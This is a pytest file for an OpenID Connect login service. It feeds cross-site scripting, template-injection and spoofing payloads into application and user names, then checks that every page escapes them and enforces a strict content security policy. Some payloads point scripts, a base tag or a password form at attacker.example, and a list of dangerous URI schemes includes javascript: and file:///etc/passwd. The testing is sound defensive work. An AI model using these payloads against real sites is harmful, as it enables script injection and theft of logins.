"""Attack rows 11 and 12: names that are markup, on every page that shows them."""

import re
import secrets
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from identity.domain.applications import Application
from identity.errors import IdentityError
from tests.support.browser import Browser, Page
from tests.support.builders import PASSWORD, Client, Person, Site

pytestmark = [pytest.mark.any_engine, pytest.mark.long]

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt/src=//attacker.example>", '"><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='", "</title><svg onload=alert(1)>", "--><script>alert(1)</script><!--",
    "javascript:alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "{{ 7*7 }}{% raw %}",
    "${7*7}#{7*7}", "%(host)s %s {0.__class__}", "</bdi></dd><iframe src=javascript:alert(1)>", "\u202egnp.exe",
    "<base href=//attacker.example>", "<form action=//attacker.example><input name=password>", "\u2028alert(1)\u2029",
    "<meta http-equiv=refresh content=0>", 'x" formaction="https://attacker.example', "<style>*{display:none}</style>",
    "\U0001f600<\ud7ff>",
)  # fmt: skip

ACTIVE = {
    "script", "iframe", "object", "embed", "base", "svg", "form", "img", "style", "meta", "link", "input", "button",
}  # fmt: skip
POLICY = re.compile(r"default-src 'none'; script-src 'self'; style-src 'self'")


@dataclass(frozen=True)
class Skeleton:
    """Of a page, what a browser acts on: elements, their attributes, and where they lead."""

    elements: tuple[tuple[str, tuple[str, ...]], ...]

    @classmethod
    def of(cls, page: Page) -> "Skeleton":
        return cls(
            tuple(
                (element.tag, tuple(sorted(element.attributes)))
                for element in page.document.all()
                if element.tag in ACTIVE or any(name.startswith("on") for name in element.attributes)
            )
        )


def pages_of(site: Site, client: Client, person: Person, browser: Browser, hostile: str) -> Iterator[tuple[str, Page]]:
    """Every page on which the application's or the person's name, or a parameter, can show."""
    ask = {"scope": "openid email profile address phone groups read", "state": hostile, "login_hint": hostile}
    login = browser.get(site.authorize_url(client, **ask))
    yield "login", login
    yield "login refused", login.submit("login-submit", username=hostile, password=hostile)
    consent = browser.get(login.url).submit("login-submit", username=person.username, password=PASSWORD)
    yield "consent", consent
    yield "form post", site.sign_in(client, person, browser=browser, **(ask | {"response_mode": "form_post"}))
    consent.submit("consent-allow")
    yield "account chooser", browser.get(site.authorize_url(client, **(ask | {"prompt": "select_account"})))
    yield "account", browser.get(f"{site.base}/account?notice=ended")
    yield "account, unknown notice", browser.get(f"{site.base}/account?notice=x")
    yield "logout", browser.get(f"{site.base}/oidc/logout?client_id={client.client_id}")
    yield "logged out", site.browser().get(f"{site.base}/oidc/logout?client_id={client.client_id}")
    yield "error", browser.get(site.authorize_url(client, redirect_uri="https://x.example/" + hostile))
    yield "error, client", browser.get(site.authorize_url(client, client_id=hostile))
    yield "home", browser.get(f"{site.base}/")
    yield "not found", browser.get(f"{site.base}/nothing")


@pytest.fixture(scope="module")
def plain(standing_site: Site) -> dict[str, Skeleton]:
    """The same pages with harmless names: what may be on them."""
    return {name: Skeleton.of(page) for name, page in _pages_with(standing_site, "harmless")}


def _pages_with(site: Site, text: str) -> Iterator[tuple[str, Page]]:
    number = secrets.token_hex(4)
    # An application's name is printable, or it is not registered at all; a person's comes from any directory.
    shown = text if text.isprintable() else "harmless"
    client = site.application(
        shown, display_name=shown, skip_consent=False, scopes=("read",), policy_uri="https://app.example/policy",
        tos_uri="https://app.example/tos", logo_uri=f"https://app.example/{shown}",
    )  # fmt: skip
    person = site.person(
        f"person{number}", name=text, given_name=text, nickname=text, email="x@example.org", phone_number=text,
        address={"formatted": text, "locality": text}, groups=(f"group{number}",), website=text, profile=text,
    )  # fmt: skip
    return pages_of(site, client, person, site.browser(), text)


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:20].encode("ascii", "replace").decode())
def test_no_name_becomes_markup(standing_site: Site, plain: dict[str, Skeleton], payload: str) -> None:
    seen = set()
    for name, page in _pages_with(standing_site, payload):
        seen.add(name)
        assert page.status < 500, name
        assert Skeleton.of(page) == plain[name], name
        if "<" in payload:
            assert payload not in page.text, name
        assert POLICY.match(page.header("content-security-policy") or ""), name
        assert "unsafe" not in (page.header("content-security-policy") or "")
        assert page.header("x-content-type-options") == "nosniff", name
        _assert_leads_nowhere(page, name)
    assert seen == plain.keys()


def _assert_leads_nowhere(page: Page, name: str) -> None:
    """Addresses on a page are ours, the application's registered ones, or https."""
    for element in page.document.all():
        for attribute in ("href", "src", "action", "formaction"):
            address = element.attributes.get(attribute, "")
            assert not re.match(r"\s*(javascript|data|vbscript)\s*:", address, re.IGNORECASE), name
            assert "attacker.example" not in address.partition("?")[0], name
        assert not any(attribute.startswith("on") for attribute in element.attributes), name


def test_the_names_are_shown(standing_site: Site) -> None:
    """Escaped, but there: otherwise the tests above would prove nothing."""
    payload = "<b>bold</b> & co"
    pages = dict(_pages_with(standing_site, payload))
    for name in ("login", "consent", "account", "logout", "account chooser"):
        assert "&lt;b&gt;bold&lt;/b&gt; &amp; co" in pages[name].text, name


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,x",
     "vbscript:x", "\x01javascript:alert(1)", "file:///etc/passwd", "ftp://app.example/", "//app.example/", "", "x"],
)  # fmt: skip
@pytest.mark.parametrize("field", ["policy_uri", "tos_uri"])
def test_links_of_an_application_are_web_addresses(standing_site: Site, field: str, address: str) -> None:
    client = standing_site.application()
    with pytest.raises(IdentityError):
        standing_site.update(client, **{field: address})


def test_every_text_field_of_an_application_is_in_the_table() -> None:
    """A new field that a page could show must be made hostile above."""
    shown = {"name", "display_name", "logo_uri", "policy_uri", "tos_uri"}
    never = {
        "jwks", "jwks_uri", "client_uri", "sector_identifier_uri", "initiate_login_uri", "backchannel_logout_uri",
        "frontchannel_logout_uri", "backchannel_client_notification_endpoint", "software_id", "software_version",
        "software_statement", "owner", "minimum_acr", "sign_in_script", "shadow_script",
    }  # fmt: skip
    texts = {name for name, hint in Application.__annotations__.items() if hint in (str, str | None)}
    words = {name for name in texts if name.endswith(("_alg", "_enc", "_algorithm")) or name.startswith("tls_client_")}
    assert texts - shown - never - words == set()
